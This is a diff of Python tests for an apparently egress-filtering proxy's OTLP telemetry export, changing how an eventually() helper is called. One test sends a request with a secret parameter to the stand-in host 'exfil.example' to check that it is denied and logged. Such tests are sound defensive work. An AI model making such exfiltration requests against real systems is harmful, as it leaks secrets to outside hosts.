@@ -90,7 +90,7 @@ def test_a_denied_call_of_a_real_serve_arrives_with_its_decisions_id(workspace: 
     (workspace.path / "config.yaml").write_text(f"telemetry: {{otlp_endpoint: '{receiver.url}'}}\n")
     serving = workspace.serve()
     answer = serving.get("http://exfil.example/a?secret=1")
-    eventually(lambda: any(r.event_name == "cloned_proxy.decision" for r in receiver.records), 20, "the record")
+    eventually(lambda: any(r.event_name == "cloned_proxy.decision" for r in receiver.records), what="the record")
     (record,) = [r for r in receiver.records if r.event_name == "cloned_proxy.decision"]
     found = attributes(record)
     assert found["cloned.id"] in answer.body
@@ -110,13 +110,13 @@ def test_a_collector_that_hangs_costs_traffic_nothing(workspace: Workspace, rece
     serving = workspace.serve()
     receiver.hang.clear()
     serving.get("http://first.example/")
-    eventually(lambda: receiver.asked, 20, "an export that hangs")
+    eventually(lambda: receiver.asked, what="an export that hangs")
     for number in range(20):
         assert serving.get(f"http://host{number}.example/").status == 403
     assert serving.page("/readyz").status == 200
     receiver.hang.set()
     hosts = {f"host{number}.example" for number in range(20)}
-    eventually(lambda: hosts <= {attributes(r).get("server.address") for r in receiver.records}, 30, "all of them")
+    eventually(lambda: hosts <= {attributes(r).get("server.address") for r in receiver.records}, what="all of them")
 
 
 @pytest.fixture
@@ -148,19 +148,19 @@ def test_a_restart_goes_on_where_the_last_export_stopped(
     append(log, 1)
     first, _ = export(tmp_path, receiver)
     cursor = tmp_path / "run/otlp.seq"
-    eventually(cursor.exists, 10, "a beginning")  # what was there before is old
+    eventually(cursor.exists, what="a beginning")  # what was there before is old
     append(log, 2)
     first.close()
     assert ids(receiver) == [2]
     receiver.status = 503
     second, registry = export(tmp_path, receiver)
     append(log, 3)
-    eventually(lambda: receiver.asked > 1, 10, "a refused export")
+    eventually(lambda: receiver.asked > 1, what="a refused export")
     second.close()
     assert registry.get_sample_value("cloned_proxy_otlp_exported_total") == 0
     receiver.status = 200
     third, registry = export(tmp_path, receiver)
-    eventually(lambda: ids(receiver) == [2, 3], 10, "the rest")
+    eventually(lambda: ids(receiver) == [2, 3], what="the rest")
     third.close()
     assert registry.get_sample_value("cloned_proxy_otlp_exported_total") == 1
 
@@ -175,7 +175,7 @@ def test_what_lies_too_far_back_is_dropped_and_counted(
     (tmp_path / "run/otlp.seq").write_text("1\n")
     append(log, *range(2, 12))
     exporter, registry = export(tmp_path, receiver)
-    eventually(lambda: ids(receiver) == [9, 10, 11], 10, "the newest three")
+    eventually(lambda: ids(receiver) == [9, 10, 11], what="the newest three")
     exporter.close()
     assert registry.get_sample_value("cloned_proxy_otlp_dropped_total") == 7
 
@@ -188,7 +188,7 @@ def test_the_end_of_a_flow_belongs_to_its_decision(
     (tmp_path / "run/otlp.seq").write_text("0\n")
     log.append(FlowEnd(ID, 5.0, "t", 1, 2, 0.5, "closed"))
     exporter, _ = export(tmp_path, receiver)
-    eventually(lambda: receiver.records, 10, "the record")
+    eventually(lambda: receiver.records, what="the record")
     exporter.close()
     (record,) = receiver.records
     assert (record.event_name, record.trace_id) == ("cloned_proxy.flow_end", trace_id(ID))
